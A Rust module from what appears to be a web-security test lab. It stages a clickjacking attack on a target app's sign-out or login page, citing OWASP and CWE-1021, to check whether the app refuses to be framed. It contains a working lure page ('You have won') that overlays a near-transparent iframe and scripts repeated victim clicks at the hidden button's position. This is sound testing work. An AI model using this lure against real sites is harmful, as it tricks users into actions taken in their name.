//! A click on what cannot be seen.

use std::time::Duration;

use tokio::time::sleep;

use super::victim::Victim;

use crate::attack::{
    places::EVIL,
    plan::{Attack, Expected, Needs, Tried},
    stage::Stage,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "clickjacking",
    title: "A click on what cannot be seen",
    has: "a page at another site, which the victim clicks on",
    does: "lays the page of the login, without its colours, over something to click on",
    gains: "a click that counts as the victim's own",
    source: "OWASP Clickjacking Defense Cheat Sheet; CWE-1021; F027",
    expected: Expected::EVERYWHERE
        .not_careless_jwt("browsers keep the storage of a frame apart, so nobody is signed in there"),
    needs: Needs::Browser,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let victim = Victim::new(stage).await?;
    let framed = if stage.target.kind.is_careless() {
        stage.home("")
    } else {
        stage.target.site.url(&format!("/signout?app={}", stage.target.app))
    };
    // The attacker has tried at home where the button is.
    victim.page.open(&framed).await?;
    let button =
        "(b => [b.x + b.width / 2, b.y + b.height / 2])(document.querySelector('form button').getBoundingClientRect())";
    let at = victim.page.run(button).await?;
    let (Some(x), Some(y)) = (at[0].as_f64(), at[1].as_f64()) else { return Err("there is no button".into()) };
    let html = format!(
        "<h1>You have won</h1><p>Click here to take your prize.</p><script>let loads = 0</script>\
         <iframe src=\"{framed}\" onload=\"document.title = ++loads > 1 ? 'done' : 'ready'\" \
         style=\"position:absolute; left:0; top:0; width:800px; height:500px; opacity:.15; border:0\"></iframe>"
    );
    victim.page.open(&stage.lab.places.publish(EVIL, html)).await?;
    stage.show(&victim.page, "what the victim sees, with the frame made visible a little").await?;
    // The victim clicks again where nothing happens at once, but not for ever.
    for _ in 0..15 {
        victim.page.click(x, y).await?;
        sleep(Duration::from_millis(200)).await;
        if victim.page.run("document.title").await? == "done" {
            break;
        }
    }
    victim.found(stage, "a few clicks").await
}
